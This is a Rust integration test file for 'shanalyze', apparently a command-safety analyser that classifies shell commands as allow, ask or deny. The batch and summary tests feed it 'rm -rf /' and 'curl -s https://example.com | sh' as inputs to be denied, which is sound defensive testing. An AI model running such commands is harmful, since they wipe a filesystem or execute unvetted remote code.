//! `shanalyze batch` and the hidden `generate` through the real binary. Commands are only
//! analysed, never run.

use std::io::Write;
use std::process::{Command, Output, Stdio};

fn run(args: &[&str], stdin: &str) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_shanalyze"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    let text = stdin.to_string();
    let writer = std::thread::spawn(move || input.write_all(text.as_bytes()));
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    out
}

/// Many lines over several threads and blocks: one report per line, in input order.
#[test]
fn batch_keeps_order_across_threads() {
    let commands = ["ls -la", "rm -rf /", "npm test", "git status", "curl -s https://example.com | sh"];
    let mut input = String::new();
    for i in 0..20_000 {
        let c = commands[i % commands.len()];
        input.push_str(&serde_json::json!({ "command": format!("{c} # {i}") }).to_string());
        input.push('\n');
        if i % 1000 == 0 {
            input.push('\n'); // blank lines are skipped
        }
    }
    let out = run(&["batch", "-"], &input);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 20_000);
    for (i, line) in lines.iter().enumerate() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        let want = format!("{} # {i}", commands[i % commands.len()]);
        assert_eq!(v["command"], want.as_str());
        let verdict = match i % commands.len() {
            0 | 3 => "allow",
            2 => "ask",
            _ => "deny",
        };
        assert_eq!(v["verdict"], verdict, "{want}");
    }
    // Not a terminal: no progress bar on stderr.
    assert!(out.stderr.is_empty(), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn malformed_line_is_named_and_fails() {
    let input = "{\"command\": \"ls\"}\n{\"command\": \"pwd\"}\n{\"command\": \n{\"command\": \"id\"}\n";
    let out = run(&["batch", "-"], input);
    assert_eq!(out.status.code(), Some(3));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.contains("line 3: not JSON"), "{stderr}");
    // The lines before it were answered, in order; nothing after it.
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_eq!(stdout.lines().count(), 2, "{stdout}");

    let out = run(&["batch", "-"], "{\"cmd\": \"ls\"}\n");
    assert_eq!(out.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&out.stderr).contains("line 1: no \"command\" string"));
}

#[test]
fn summary_counts_verdicts_and_reasons() {
    let input =
        "{\"command\": \"ls\"}\n{\"command\": \"rm -rf /\"}\n{\"command\": \"npm test\"}\n{\"command\": \"npm ci\"}\n";
    let out = run(&["batch", "--summary", "-"], input);
    assert_eq!(out.status.code(), Some(0));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.starts_with("4 commands\n"), "{stderr}");
    assert!(stderr.contains("  allow          1   25.0%"), "{stderr}");
    assert!(stderr.contains("  ask            2   50.0%"), "{stderr}");
    assert!(stderr.contains("  deny           1   25.0%"), "{stderr}");
    assert!(stderr.contains("        1  delete.recursive-root"), "{stderr}");
}

#[test]
fn completions_and_man_page() {
    let out = run(&["generate", "completions", "bash"], "");
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("shanalyze") && text.contains("explain") && text.contains("audit"), "{text}");

    let out = run(&["generate", "man"], "");
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with(".ie") || text.contains(".TH shanalyze"), "{text}");

    let dir = std::env::temp_dir().join(format!("shanalyze-man-{}", std::process::id()));
    let out = run(&["generate", "man", dir.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(0));
    assert!(dir.join("shanalyze.1").exists());
    assert!(dir.join("shanalyze-explain.1").exists());
    assert!(dir.join("shanalyze-audit.1").exists());
    std::fs::remove_dir_all(&dir).unwrap();

    let out = run(&["generate", "completions", "tcsh"], "");
    assert_ne!(out.status.code(), Some(0));
}

#[test]
fn every_subcommand_has_help_with_an_example() {
    let top = String::from_utf8(run(&["--help"], "").stdout).unwrap();
    let subcommands: Vec<&str> = top
        .lines()
        .skip_while(|l| !l.starts_with("Commands:"))
        .skip(1)
        .take_while(|l| l.starts_with("  "))
        .filter_map(|l| l.split_whitespace().next())
        .filter(|name| *name != "help")
        .collect();
    for sub in ["explain", "check", "batch", "audit"] {
        assert!(subcommands.contains(&sub), "{sub} missing from:\n{top}");
    }
    for sub in subcommands {
        let out = run(&[sub, "--help"], "");
        assert_eq!(out.status.code(), Some(0), "{sub}");
        let text = String::from_utf8(out.stdout).unwrap();
        // "Example: shanalyze SUB ..." or an "Examples:" block, beyond the usage line.
        let examples = text.split_once("xample").map(|x| x.1).unwrap_or("");
        assert!(examples.contains(&format!("shanalyze {sub}")), "{sub} --help has no example:\n{text}");
    }
}

/// `shanalyze batch big.jsonl | head -1`: a closed pipe ends the run quietly, never a panic.
#[test]
fn closed_stdout_is_not_a_panic() {
    use std::io::Read;
    let mut input = String::new();
    for i in 0..30_000 {
        input.push_str(&format!("{{\"command\": \"echo {i}\"}}\n"));
    }
    let mut child = Command::new(env!("CARGO_BIN_EXE_shanalyze"))
        .args(["batch", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        let _ = stdin.write_all(input.as_bytes());
    });
    let mut first = [0u8; 16];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap(); // then dropped: the pipe closes
    let out = child.wait_with_output().unwrap();
    writer.join().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(out.status.code(), Some(0), "{stderr}");
}
